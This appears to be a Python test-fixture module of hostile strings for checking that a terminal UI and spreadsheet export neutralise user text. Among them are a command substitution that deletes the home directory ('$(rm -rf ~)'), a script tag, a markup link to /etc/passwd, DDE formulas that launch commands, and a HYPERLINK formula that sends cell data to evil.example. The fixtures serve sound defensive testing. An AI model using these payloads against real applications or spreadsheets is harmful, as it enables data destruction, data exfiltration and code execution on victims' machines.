"""Hostile text used across the tests: markup, formula and control payloads.

Any screen or export that shows user text is checked against these: markup
must show literally and never run an action, formulas must be neutralised.
"""

from __future__ import annotations

MARKUP_PAYLOADS = [
    "[/]",
    "[@click=app.quit]x[/]",
    "[link=file:///etc/passwd]x[/]",
    "[Sons]",
    "Acme [UK] Ltd",
    "[[nested [bold]brackets[/bold]]]",
    "[bold red]loud[/]",
    "\\[escaped] and trailing \\",
    "back\\\\slash \\[/]",
    "[/bold]unopened",
    "[@click=app.bell]ring[/] [@click=screen.dismiss]x[/]",
    "[on red]",
    ":warning: :smile:",
    "$(rm -rf ~) `whoami`",
    "<script>alert(1)</script>",
    "%s %n {0} {name}",
]
"""Text that rich/Textual markup, emoji codes or shells would interpret."""

FORMULA_PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
"""Text a spreadsheet would run as a formula if written into a cell unguarded."""
